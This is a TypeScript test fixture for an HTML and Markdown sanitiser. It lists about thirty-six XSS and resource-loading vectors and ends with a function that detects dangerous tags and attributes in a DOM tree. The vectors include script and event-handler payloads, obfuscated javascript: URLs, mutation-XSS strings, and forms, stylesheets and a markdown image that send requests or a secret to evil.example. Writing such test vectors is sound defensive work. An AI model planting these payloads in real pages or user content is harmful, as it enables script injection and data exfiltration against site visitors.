/** Texts that would run, load or take over something if they were not sanitised, and how to see that they do. */
export const VECTORS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='jAvAsCrIpT&#58;alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href=' \u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<form action='https://evil.example'><input name=p><button>x</button></form>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<div style='background:url(https://evil.example/x)'>x</div>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'>",
  "<video src='https://evil.example/x' poster='https://evil.example/y' autoplay></video>",
  "<audio src='https://evil.example/x'></audio><track src='https://evil.example/t'>",
  "<picture><source srcset='https://evil.example/x'><img src='https://evil.example/y'></picture>",
  "<img srcset='https://evil.example/x 2x' alt=a>",
  "<input type=image src='https://evil.example/x'>",
  "<body background='https://evil.example/x'>",
  "<table background='https://evil.example/x'><td background='https://evil.example/y'>",
  "<div id=main name=page class=masthead onclick=alert(1)>x</div>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "![x](https://evil.example/?secret)",
  "![x](javascript:alert(1))",
  "[x](javascript:alert(1))",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "[x](#/prompts)",
  "`<img src=x onerror=alert(1)>`",
];

/** What could run, load or take over something, wherever it stands. */
export function dangersIn(root: ParentNode): string[] {
  return Array.from(root.querySelectorAll("*")).flatMap((element) => [
    ...(/^(?:script|style|iframe|object|embed|form|input|button|link|meta|base|img|video|audio|source|picture|svg|math|template)$/i.test(
      element.tagName,
    )
      ? [element.tagName]
      : []),
    ...Array.from(element.attributes).flatMap(({ name, value }) =>
      /^on|^style$|^id$|^name$|^src|^background$|^poster$|^action$/.test(name) ||
      (name === "href" && !/^(?:https?:|mailto:)/.test(value))
        ? [`${name}=${value}`]
        : [],
    ),
  ]);
}
